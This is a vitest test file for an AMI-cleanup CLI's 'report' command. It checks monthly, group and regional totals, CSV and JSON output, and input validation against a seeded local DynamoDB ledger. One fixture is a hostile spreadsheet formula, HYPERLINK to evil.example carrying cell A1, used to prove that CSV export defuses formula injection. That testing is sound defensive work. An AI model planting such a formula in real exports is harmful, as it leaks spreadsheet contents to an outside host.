import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../cli/audit/csv.ts';
import type { AuditReportJson } from '../../cli/commands/report.ts';
import type { CliDeps } from '../../cli/deps.ts';
import { bufferIo } from '../../cli/io.ts';
import { openLedger } from '../../cli/ledger-location.ts';
import { type LocalLedger, startLocalLedger } from '../../cli/local-ledger.ts';
import { main } from '../../cli/main.ts';
import { Ledger } from '../../functions/adapters/ledger/index.ts';
import type { ItemStatus } from '../../functions/core/workflow.ts';
import { candidate, runContext, smallPlan } from '../helpers/ledger-fixtures.ts';

const AMI_1 = 'ami-0000000000000001';
const AMI_2 = 'ami-0000000000000002';
const AMI_3 = 'ami-0000000000000003';
const ORPHAN = 'snap-00000000000000ff';
const US_AMI = 'ami-00000000000000a1';
/** Tag text an attacker controls: a spreadsheet would run it as a formula. */
const HOSTILE_GROUP = '=HYPERLINK("http://evil.example/?x="&A1,"ok"),x';

const noAccount: CliDeps = {
  awsEnvironment: () => Promise.reject(new Error('report never reads the account')),
  demoEnvironment: () => {
    throw new Error('report never reads the account');
  },
};

async function runCli(args: string[], deps: CliDeps = noAccount) {
  const io = bufferIo();
  const code = await main(args, io, deps);
  return { code, stdout: io.stdout(), stderr: io.stderr() };
}

/**
 * Through the real Ledger API, with a clock so items land in known months:
 * - run-apr (eu-west-1), approved: AMI_1 removed 30 Apr (10 GiB); AMI_3 removed 1 May (10 GiB),
 *   restored 20 May; the orphan deleted 1 May (30 GiB); AMI_2 failed.
 * - run-jun (us-east-1), approved: US_AMI in a hostile-named group removed 2 Jun (10 GiB).
 * - run-dry: a dry run; it removes nothing.
 */
async function seedRuns(dynamo: LocalLedger): Promise<void> {
  let clock = new Date('2026-04-28T10:00:00.000Z');
  const ledger = new Ledger({ doc: dynamo.docClient, tableName: dynamo.tableName, now: () => clock });
  const at = (iso: string) => {
    clock = new Date(iso);
  };
  const move = (
    runId: string,
    kind: 'IMAGE' | 'SNAPSHOT',
    id: string,
    from: ItemStatus,
    to: string,
    set = {},
  ) => ledger.transition(runId, kind, id, { from: [from], to: to as ItemStatus, set });
  const deleted = async (runId: string, imageId: string, day: string) => {
    at(day);
    await move(runId, 'IMAGE', imageId, 'APPROVED', 'DEREGISTERED', { deregisteredAt: day });
    await move(runId, 'IMAGE', imageId, 'DEREGISTERED', 'DONE', { snapshotsDeleted: 2, gibFreed: 10 });
  };

  const apr = runContext({ runId: 'run-apr', startedAt: '2026-04-28T10:00:00.000Z' });
  const plan = smallPlan();
  await ledger.putRun(apr);
  await ledger.recordPlan(apr, plan);
  await ledger.markAllApproved('run-apr', plan.planHash);
  await ledger.updateRun('run-apr', { status: 'DELETING' });
  await deleted('run-apr', AMI_1, '2026-04-30T09:00:00.000Z');
  await deleted('run-apr', AMI_3, '2026-05-01T01:00:00.000Z');
  await move('run-apr', 'SNAPSHOT', ORPHAN, 'APPROVED', 'DONE', { snapshotsDeleted: 1, gibFreed: 30 });
  await move('run-apr', 'IMAGE', AMI_2, 'APPROVED', 'FAILED');
  await ledger.updateRun('run-apr', { status: 'COMPLETED_WITH_FAILURES' });
  at('2026-05-20T08:00:00.000Z');
  // What `amicleaner restore` will record: the AMI and its snapshots are back.
  await move('run-apr', 'IMAGE', AMI_3, 'DONE', 'RESTORED', { restoredAt: '2026-05-20T08:00:00.000Z' });

  at('2026-06-02T10:00:00.000Z');
  const jun = runContext({
    runId: 'run-jun',
    startedAt: '2026-06-02T10:00:00.000Z',
    executionArn: 'arn:aws:states:us-east-1:123456789012:execution:ami-cleaner:run-jun',
  });
  const usPlan = smallPlan({
    planHash: 'b'.repeat(64),
    region: 'us-east-1',
    groups: [
      {
        name: HOSTILE_GROUP,
        candidates: [candidate(US_AMI, '2026-01-01T00:00:00.000Z', HOSTILE_GROUP)],
        kept: [],
      },
    ],
    orphanSnapshots: [],
  });
  await ledger.putRun(jun);
  await ledger.recordPlan(jun, usPlan);
  await ledger.markAllApproved('run-jun', usPlan.planHash);
  await deleted('run-jun', US_AMI, '2026-06-02T10:30:00.000Z');
  await ledger.updateRun('run-jun', { status: 'COMPLETED' });

  const dry = runContext({ runId: 'run-dry', startedAt: '2026-06-03T10:00:00.000Z', dryRun: true });
  await ledger.putRun(dry);
  await ledger.recordPlan(dry, smallPlan({ planHash: 'c'.repeat(64) }));
  await ledger.finalizeItems('run-dry', 'DRY_RUN');
  await ledger.updateRun('run-dry', { status: 'DRY_RUN' });
}

const row = (
  key: string,
  runs: number,
  amis: number,
  snaps: number,
  gib: number,
  usd: number,
  restored = 0,
) => ({
  key,
  runs,
  amisRemoved: amis,
  snapshotsDeleted: snaps,
  gibFreed: gib,
  monthlySavingUsd: usd,
  restored,
});

/** Table body rows, cells trimmed, of the table under `title`. */
function tableRows(stdout: string, title: string): string[][] {
  const lines = stdout.split('\n');
  const start = lines.indexOf(`${title}:`);
  const body: string[][] = [];
  for (const line of lines.slice(start + 1)) {
    if (line === '') break;
    if (line.startsWith('|'))
      body.push(
        line
          .slice(1, -1)
          .split('|')
          .map((cell) => cell.trim()),
      );
  }
  return body.slice(1);
}

describe('amicleaner report --ledger-table', () => {
  let dynamo: LocalLedger;
  const savedEndpoint = process.env.AWS_ENDPOINT_URL;
  const args = (...rest: string[]) => [
    'report',
    '--ledger-table',
    dynamo.tableName,
    '--region',
    'eu-west-1',
    ...rest,
  ];

  const savedKeys = [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY];

  beforeAll(async () => {
    dynamo = await startLocalLedger();
    await seedRuns(dynamo);
    // The embedded store answers only its own per-process key; the SDK reads it from the env.
    process.env.AWS_ACCESS_KEY_ID = dynamo.credentials.accessKeyId;
    process.env.AWS_SECRET_ACCESS_KEY = dynamo.credentials.secretAccessKey;
  });

  afterEach(() => {
    if (savedEndpoint === undefined) delete process.env.AWS_ENDPOINT_URL;
    else process.env.AWS_ENDPOINT_URL = savedEndpoint;
  });

  afterAll(async () => {
    [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY] = savedKeys;
    await dynamo.stop();
  });

  it('totals removals, GiB freed, savings and restores per month, group and region as JSON', async () => {
    // Prepare
    process.env.AWS_ENDPOINT_URL = dynamo.endpoint;

    // Act
    const { code, stdout, stderr } = await runCli(args('--json'));

    // Assess
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const report = JSON.parse(stdout) as AuditReportJson;
    expect(report).toMatchObject({ runsRead: 3, truncated: false, since: null, pricePerGibMonth: 0.05 });
    expect(report.byMonth).toEqual([
      row('2026-04', 1, 1, 2, 10, 0.5),
      // AMI_3's snapshots are back after the restore: its 10 GiB are no longer freed.
      row('2026-05', 1, 1, 1, 30, 1.5, 1),
      row('2026-06', 1, 1, 2, 10, 0.5),
    ]);
    expect(report.byGroup).toEqual([
      row('(orphan snapshots)', 1, 0, 1, 30, 1.5),
      row(HOSTILE_GROUP, 1, 1, 2, 10, 0.5),
      row('front.prod', 1, 2, 2, 10, 0.5, 1),
    ]);
    expect(report.byRegion).toEqual([
      row('eu-west-1', 1, 2, 3, 40, 2, 1),
      row('us-east-1', 1, 1, 2, 10, 0.5),
    ]);
    expect(report.total).toEqual(row('total', 2, 3, 5, 50, 2.5, 1));
  });

  it('prints the totals as tables, with a total row per month', async () => {
    // Prepare
    process.env.AWS_ENDPOINT_URL = dynamo.endpoint;

    // Act
    const { code, stdout } = await runCli(args());

    // Assess
    expect(code).toBe(0);
    expect(stdout).toMatch(/^Cleanup report from DynamoDB table .* \(3 runs read\):\n/);
    expect(tableRows(stdout, 'By month (UTC)')).toEqual([
      ['2026-04', '1', '1', '2', '10', '0.50', '0'],
      ['2026-05', '1', '1', '1', '30', '1.50', '1'],
      ['2026-06', '1', '1', '2', '10', '0.50', '0'],
      ['Total', '2', '3', '5', '50', '2.50', '1'],
    ]);
    expect(tableRows(stdout, 'By region').map((cells) => cells[0])).toEqual(['eu-west-1', 'us-east-1']);
  });

  it('counts from --since on, at the --price-per-gib-month given', async () => {
    // Prepare
    process.env.AWS_ENDPOINT_URL = dynamo.endpoint;

    // Act
    const { code, stdout } = await runCli(
      args('--since', '2026-05', '--price-per-gib-month', '0.1', '--json'),
    );

    // Assess
    expect(code).toBe(0);
    const report = JSON.parse(stdout) as AuditReportJson;
    expect(report.byMonth.map((r) => r.key)).toEqual(['2026-05', '2026-06']);
    expect(report.total).toEqual(row('total', 2, 2, 3, 40, 4, 1));
  });

  it('writes CSV whose hostile group name stays text in a spreadsheet', async () => {
    // Prepare
    process.env.AWS_ENDPOINT_URL = dynamo.endpoint;

    // Act
    const { code, stdout } = await runCli(args('--csv'));

    // Assess
    expect(code).toBe(0);
    const lines = stdout.split('\r\n');
    expect(lines[0]).toBe(
      '"breakdown","key","runs","amis_removed","snapshots_deleted","gib_freed","usd_per_month_saved","restored"',
    );
    expect(lines).toContain('"month","2026-05",1,1,1,30,1.5,1');
    // Quote prefix (OWASP), quotes doubled, the comma kept inside the cell.
    expect(lines).toContain(`"group","'=HYPERLINK(""http://evil.example/?x=""&A1,""ok""),x",1,1,2,10,0.5,0`);
    expect(lines).toContain('"total","total",2,3,5,50,2.5,1');
    expect(lines.at(-1)).toBe('');
  });

  it('refuses --json with --csv, and a malformed month or price, with exit 2', async () => {
    for (const bad of [
      ['--json', '--csv'],
      ['--since', '2026-13'],
      ['--since', 'May'],
      ['--price-per-gib-month', '-1'],
    ]) {
      // Act
      const { code, stdout, stderr } = await runCli(args(...bad));

      // Assess
      expect(code, bad.join(' ')).toBe(2);
      expect(stdout).toBe('');
      // One line: plain text, or the error as JSON when --json was asked for.
      expect(stderr).toMatch(
        bad.includes('--json') ? /^\{"error":.*"exitCode":2\}\}\n$/ : /^amicleaner: .*\n$/,
      );
    }
  });

  it('reports an unreadable ledger in one line with exit 2 and prints no totals', async () => {
    // Prepare
    process.env.AWS_ENDPOINT_URL = dynamo.endpoint;

    // Act
    const { code, stdout, stderr } = await runCli([
      'report',
      '--ledger-table',
      'no-such-table',
      '--region',
      'eu-west-1',
    ]);

    // Assess
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toMatch(/^amicleaner: cannot use the ledger in DynamoDB table no-such-table .*\n$/);
  });
});

describe('amicleaner report on the local store', () => {
  let cwd: string;

  beforeAll(() => {
    cwd = mkdtempSync(join(tmpdir(), 'amicleaner-report-'));
  });

  afterAll(() => {
    rmSync(cwd, { recursive: true, force: true });
  });

  it('says nothing was removed yet, and creates no store by looking', async () => {
    // Act
    const { code, stdout } = await runCli(['report'], {
      ...noAccount,
      openLedger: (options) => openLedger({ ...options, cwd }),
    });

    // Assess
    expect(code).toBe(0);
    expect(stdout).toContain('Nothing removed, freed or restored yet.');
    expect(existsSync(join(cwd, '.amicleaner'))).toBe(false);
  });
});

describe('csvCell', () => {
  it.each([
    ['=1+2', `"'=1+2"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    ['dev.front', '"dev.front"'],
    ['a "b", c\nd', '"a ""b"", c\nd"'],
  ])('writes %j as %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('writes numbers as numbers', () => {
    expect(csvCell(1.5)).toBe('1.5');
    expect(csvCell(Number.NaN)).toBe('');
  });
});
